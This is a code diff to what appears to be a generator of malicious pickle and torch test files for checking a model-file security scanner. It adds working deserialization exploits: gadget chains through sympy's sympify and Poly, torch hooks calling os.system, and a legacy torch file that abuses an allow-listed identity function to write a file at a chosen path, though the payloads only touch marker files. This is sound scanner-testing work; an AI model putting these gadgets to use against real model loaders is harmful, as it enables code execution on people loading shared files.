@@ -135,6 +135,14 @@ class Family:
             ("redteam_latin1_nested_load.pkl", "redteam", "pickle-latin1", lambda n: pk(_latin1_nested(m(n)))),
             ("redteam_library_function.pkl", "redteam", "pickle",
              lambda n: pk(call(G("sympy.core.sympify", "sympify"), U(f"__import__('os').system('touch {m(n)}')")))),
+            ("redteam_computed_hook_name.pkl", "redteam", "pickle",
+             lambda n: pk(G("torch.distributed.checkpoint.metadata", "BytesStorageMetadata") + b")\x81" + b"}"
+                          + call(G("builtins", "str"), U("__setstate__")) + G("sympy", "sympify") + b"s" + b"b"
+                          + U(f"(__import__('pathlib').Path('{m(n)}').touch() or 1)") + b"b")),
+            ("redteam_library_class_evaluates.pkl", "redteam", "pickle",
+             lambda n: pk(call(G("sympy", "Poly"), U(f"(__import__('pathlib').Path('{m(n)}').touch() or x)")))),
+            ("redteam_identity_launders_class.pt", "redteam", "torch",
+             lambda n: _legacy_patch_write(m(n))),
             ("gadget_torch_nn_function.pkl", "gadget", "pickle",
              lambda n: pk(call(G("torch.nn.modules.module", "register_module_forward_pre_hook"), G("os", "system")) + POP + sh(n))),
         ]
@@ -189,6 +197,19 @@ def _latin1_nested(marker: str) -> bytes:
                 call(G("_codecs", "encode"), b"T" + struct.pack("<I", len(inner)) + inner, U("latin1")))
 
 
+def _legacy_patch_write(marker: str) -> bytes:
+    """A legacy torch file: an identity function on the allow-list (restore_type_tag) hands back a data class,
+    BUILD then patches it (dump_patches=True, __name__=<path>), and a ('module', cls, file, source) persistent
+    id makes torch's legacy loader write ``<__name__>.patch``: a file at a path the file chooses."""
+    cls = G("torch.distributed.checkpoint.metadata", "BytesStorageMetadata")
+    main = (PROTO2 + G("torch.jit._pickle", "restore_type_tag") + cls + U("x") + b"\x86R"
+            + b"N}" + U("dump_patches") + b"\x88s" + U("__name__") + U(marker[: -len(".patch")] if marker.endswith(".patch") else marker)
+            + b"s\x86b0" + MARK + U("module") + cls + U("evil.py") + U("class X: pass") + b"tQ.")
+    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
+    return (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
+            + pickle.dumps(info, protocol=2) + main + pickle.dumps([], protocol=2))
+
+
 def _torch_file_with(pickle_bytes: bytes) -> bytes:
     """A torch.save zip whose data.pkl is ``pickle_bytes`` (for torch.load inside a pickle)."""
     import io
@@ -234,6 +255,9 @@ for arg in sys.argv[1:]:
                 pickle.load(f, encoding="utf-8")
             elif trigger == "pickle-latin1":
                 pickle.load(f, encoding="latin1")
+            elif trigger == "torch":
+                import torch
+                torch.load(f, weights_only=False)
     except Exception as exc:
         print(path, type(exc).__name__, exc, file=sys.stderr)
 """
@@ -244,7 +268,8 @@ def verify(root: Path, entries: list[dict[str, str]]) -> list[str]:
     mal = [e for e in entries if e["kind"] == "malicious"]
     subprocess.run([sys.executable, "-c", TRIGGER_CODE, *(f"{root / e['file']}::{e['trigger']}" for e in mal)],
                    cwd=root, capture_output=True, timeout=300)
-    return [e["file"] for e in mal if not Path(e["marker"]).exists()]
+    ran = {e["file"] for e in mal if Path(e["marker"]).exists() or Path(e["marker"] + ".patch").exists()}
+    return [e["file"] for e in mal if e["file"] not in ran]
 
 
 def main(argv: list[str] | None = None) -> int:
